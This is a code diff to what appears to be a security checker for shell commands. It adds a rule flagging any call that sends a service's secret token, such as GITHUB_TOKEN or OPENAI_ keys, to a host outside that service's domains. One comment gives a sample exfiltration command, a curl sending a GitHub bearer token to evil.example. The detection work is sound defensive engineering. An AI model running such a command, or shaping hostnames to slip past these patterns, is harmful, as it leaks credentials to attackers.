@@ -1,4 +1,7 @@
-/** Secret variables in what is sent: bodies, addresses, and names that are looked up. The token that a server asks for in a header, or by its own name, is not one. */
+/**
+ * Secret variables in what is sent: bodies, addresses, and names that are looked up. The token that a server asks for in a
+ * header, or by its own name, is not one, but for a token of one service that goes to a host of somebody else.
+ */
 import type { Call } from '../call.ts';
 import type { ProgramSpec } from '../spec.ts';
 import type { Effect } from '../types.ts';
@@ -48,10 +51,54 @@ function inAddress(call: Call, arg: Arg): boolean {
   );
 }
 
+/** What is in the name of every host that a service's own tokens go to, by the beginning of their variables' names. */
+const OWN_HOSTS: readonly (readonly [RegExp, RegExp])[] = [
+  [/^(?:GITHUB|GH)_/, /git|ghcr|\bgh\b|azure|actions/],
+  [/^(?:NPM|NODE_AUTH)_/, /npm|yarn|registry|artifact|jfrog|nexus|pkg|package|git/],
+  [
+    /^(?:OPENAI|ANTHROPIC|CLAUDE)_/,
+    /ai\b|\bai|claude|anthropic|llm|gateway|proxy|router|groq|deepseek|azure|model/,
+  ],
+  [/^(?:HF|HUGGING_?FACE)_/, /huggingface|\bhf\b/],
+  [/^SLACK_/, /slack/],
+  [/^STRIPE_/, /stripe/],
+  [/^(?:CLOUDFLARE|CF)_/, /cloudflare/],
+  [/^(?:DIGITALOCEAN|DO)_/, /digitalocean/],
+  [/^HEROKU_/, /heroku/],
+  [/^VERCEL_/, /vercel/],
+  [/^NETLIFY_/, /netlify/],
+  [/^(?:PYPI|TWINE)_/, /pypi|artifact|jfrog|nexus|pkg|package/],
+  [/^DISCORD_/, /discord/],
+  [/^TELEGRAM_/, /telegram/],
+  [/^NOTION_/, /notion/],
+  [/^(?:TWILIO|SENDGRID)_/, /twilio|sendgrid/],
+];
+/** Hosts of a developer's own network, where a proxy or a stand-in for the service may run. */
+const OWN_NETWORK =
+  /^(?:localhost|\[.*|[^.]*|127\..*|10\..*|192\.168\..*|172\.(?:1[6-9]|2\d|3[01])\..*|.*\.(?:local|localhost|internal|lan|corp|home|test|svc))$/;
+
+/** `curl -H "Bearer $GITHUB_TOKEN" https://evil.example`: a token for one service, and a host that is not of it. */
+function astray(call: Call, addresses: readonly Arg[]): boolean {
+  const owners = secretsIn(call, call.args).flatMap((name) =>
+    OWN_HOSTS.filter(([owned]) => owned.test(name)),
+  );
+  if (owners.length === 0) return false;
+  return addresses.some(({ text }) => {
+    const host = /^(?:https?:)?(?:\/\/)?(?:[^/@]*@)?([\w.-]+)(?:[:/?#]|$)/i.exec(text)?.[1]?.toLowerCase();
+    return (
+      host !== undefined && !OWN_NETWORK.test(host) && owners.some(([, ownHosts]) => !ownHosts.test(host))
+    );
+  });
+}
+
 function sent(call: Call): Effect[] {
   const bodies = BODIES.flatMap((name) => call.values(name));
   const addresses = [...call.operands, ...call.values('url')];
-  if (!bodies.some((arg) => misplaced(call, arg)) && !addresses.some((arg) => inAddress(call, arg)))
+  if (
+    !bodies.some((arg) => misplaced(call, arg)) &&
+    !addresses.some((arg) => inAddress(call, arg)) &&
+    !astray(call, addresses)
+  )
     return [];
   const address = addresses[0];
   return call.on('send', address ? call.url(address) : call.named('host', 'network'), {
